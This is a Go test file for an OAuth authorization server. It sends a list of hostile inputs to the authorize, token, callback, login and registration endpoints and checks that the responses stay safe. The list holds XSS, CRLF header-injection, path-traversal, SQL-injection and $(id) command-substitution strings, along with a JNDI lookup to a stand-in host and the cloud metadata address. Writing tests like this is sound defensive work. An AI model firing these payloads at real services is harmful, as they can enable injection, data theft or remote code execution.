// SPDX-License-Identifier: Apache-2.0

package authserver

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
)

// hostile are values that have broken parsers, pages, logs and databases.
var hostile = []string{
	"", " ", "\x00", "%00", "\r\nSet-Cookie: evil=1", "\r\nLocation: https://evil.example", "<script>alert('hostile')</script>",
	`"><img src=x onerror=hostile()>`, "javascript:hostile()", "data:text/html,hostile", "../../../../etc/passwd", "..%2f..%2f", "..\\..\\",
	"{env.HOME}", "{{.Token}}", "${jndi:ldap://evil.example/x}", "$(id)", "'; DROP TABLE hostile; --", "\xff\xfe\xfd", "\xc0\xaf", "\xed\xa0\x80",
	"\u202ehostile", "\u200b", "\ufeff", "日本語", strings.Repeat("A", 100), strings.Repeat("A", 5000), strings.Repeat("%", 100), strings.Repeat("hostile=1&", 50),
	"null", "true", "-1", "1e309", "[]", "{}", "NaN", "undefined", "0x7f.1", "http://169.254.169.254/", "https://evil.example/", "//evil.example",
	"mcpo_at_" + strings.Repeat("A", 96), "mcpo_rt_" + strings.Repeat("A", 96), "mcpo_ac_" + strings.Repeat("_", 96), "dcr_" + strings.Repeat("A", 43),
	strings.Repeat("A", 64), strings.Repeat("AQ", 2000), "AQAAAA" + strings.Repeat("A", 200),
}

// endpointParams are what an endpoint reads.
var endpointParams = map[string][]string{
	"authorize":      {"response_type", "client_id", "redirect_uri", "state", "code_challenge", "code_challenge_method", "resource", "scope", "prompt", "response_mode", "request", "request_uri", "x"},
	"login":          {"token", "x"},
	"login/continue": {"token", "key", "decision", "x"},
	"callback":       {"state", "code", "error", "error_description", "iss", "x"},
	"token":          {"grant_type", "code", "client_id", "client_secret", "code_verifier", "redirect_uri", "refresh_token", "resource", "scope", "client_assertion", "client_assertion_type", "x"},
}

// checkAnswer holds every answer to what an endpoint may say to anybody.
func checkAnswer(t testing.TB, endpoint string, rec *httptest.ResponseRecorder, input string) {
	t.Helper()
	body, typ := rec.Body.String(), rec.Header().Get("Content-Type")
	if rec.Code >= 500 || rec.Code < 200 {
		t.Fatalf("%s: %d %s for %q", endpoint, rec.Code, heading(rec), input)
	}
	for name, values := range rec.Header() {
		if strings.ContainsAny(name+strings.Join(values, ""), "\r\n\x00") {
			t.Fatalf("%s: header %q: %q", endpoint, name, values)
		}
	}
	if strings.Contains(body, "hostile") || strings.Contains(rec.Header().Get("Set-Cookie"), "hostile") {
		t.Fatalf("%s reflects %q: %s", endpoint, input, body)
	}
	if endpoints[endpoint].program && body != "" {
		if typ != "application/json" || !json.Valid([]byte(body)) {
			t.Fatalf("%s answers %q: %s", endpoint, typ, body)
		}
		return
	}
	if rec.Code >= 400 && (typ != "text/html; charset=utf-8" || !strings.Contains(body, "ref0") || !strings.Contains(body, "<p>")) {
		t.Fatalf("%s answers %d %q without reference or advice: %s", endpoint, rec.Code, typ, body)
	}
}

// requests are one set of parameters in every way in which it can be sent.
func requests(endpoint string, q url.Values) []*http.Request {
	e := issuer + "/" + endpoint
	return []*http.Request{
		request("GET", e+"?"+q.Encode(), ""),
		request("POST", e, q.Encode(), "Content-Type", formType, "Origin", "https://mcp.example.com"),
		request("POST", e+"?"+q.Encode(), "", "Content-Type", formType),
		request("POST", e, q.Encode(), "Content-Type", "text/plain"),
	}
}

func TestHostileInput(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	id, code := w.fresh(t)
	b := w.browser()
	page, form := b.open(t, ask(id, claude))
	callback, err := url.Parse(b.leave(t, form))
	if err != nil {
		t.Fatal(err)
	}
	token := url.Values{}
	for f := exchange(id, code); len(f) > 0; f = f[2:] {
		token.Set(f[0], f[1])
	}
	good := map[string]url.Values{
		"authorize": ask(id, claude), "login": {"token": {param(t, page, "token")}}, "login/continue": form, "callback": callback.Query(), "token": token,
	}
	for endpoint, params := range endpointParams {
		for _, name := range params {
			for _, value := range hostile {
				q := url.Values{}
				for k, v := range good[endpoint] {
					q[k] = v
				}
				q.Set(name, value)
				for _, r := range requests(endpoint, q) {
					checkAnswer(t, endpoint, w.call(r), name+"="+value)
				}
				q.Add(name, value)
				checkAnswer(t, endpoint, w.call(requests(endpoint, q)[1]), name+" twice "+value)
			}
		}
	}
}

func TestHostileBodiesAndQueries(t *testing.T) {
	t.Parallel()
	w := newWorld(t, introspecting)
	for endpoint := range endpoints {
		for _, raw := range hostile {
			r := request("GET", issuer+"/"+endpoint, "")
			r.URL.RawQuery = raw
			checkAnswer(t, endpoint, w.call(r), raw)
			for _, typ := range []string{formType, "application/json", "", raw} {
				r = request("POST", issuer+"/"+endpoint, raw)
				r.Header["Content-Type"] = []string{typ}
				checkAnswer(t, endpoint, w.call(r), raw)
			}
		}
	}
}

func TestHostileHeaders(t *testing.T) {
	t.Parallel()
	w := newWorld(t, introspecting)
	id := w.register(t, claude)
	for _, header := range []string{"Authorization", "Cookie", "Origin", "Accept", "If-None-Match", "Content-Encoding", "Sec-Fetch-Site", "Access-Control-Request-Headers", "Host"} {
		for _, value := range append(hostile, "Basic "+strings.Repeat("A", 1000), "Basic Og==", "Basic !!!", "Bearer x", "Basic") {
			for endpoint := range endpoints {
				for _, r := range requests(endpoint, ask(id, claude, "grant_type", "refresh_token", "refresh_token", "x")) {
					r.Header[header] = []string{value}
					rec := w.call(r)
					// Whoever accepts JSON alone gets it, on pages as well.
					if header != "Accept" {
						checkAnswer(t, endpoint, rec, header+": "+value)
					}
				}
			}
		}
	}
}

func TestHostileRegistration(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, value := range hostile {
		v, err := json.Marshal(value)
		if err != nil {
			t.Fatal(err)
		}
		for _, member := range []string{"client_name", "client_uri", "scope", "token_endpoint_auth_method", "application_type", "logo_uri"} {
			body := `{"redirect_uris":["` + claude + `"],"` + member + `":` + string(v) + `}`
			rec := w.call(request("POST", issuer+"/register", body, "Content-Type", "application/json"))
			if rec.Code >= 500 || !json.Valid(rec.Body.Bytes()) {
				t.Fatalf("%s: %d %s", body, rec.Code, rec.Body)
			}
		}
		body := `{"redirect_uris":[` + string(v) + `]}`
		checkAnswer(t, "register", w.call(request("POST", issuer+"/register", body, "Content-Type", "application/json")), body)
	}
}

// What a client calls itself is shown, and does nothing.
func TestHostileNamesOnTheConsentPage(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, value := range hostile {
		body, err := json.Marshal(map[string]any{"redirect_uris": []string{stranger}, "client_name": value, "client_uri": "https://" + value})
		if err != nil {
			t.Fatal(err)
		}
		w.clock.Advance(1e12)
		resp, err := w.state.Clients.Register(t.Context(), w.Rules, home, body)
		if err != nil {
			continue
		}
		b := w.browser()
		page, _ := b.open(t, ask(resp.ClientID, stranger))
		if html := b.get(page).Body.String(); strings.Contains(html, "<script") || strings.Contains(html, "<img") || strings.Contains(html, "\u202e") {
			t.Errorf("%q is alive on the page", value)
		}
	}
}
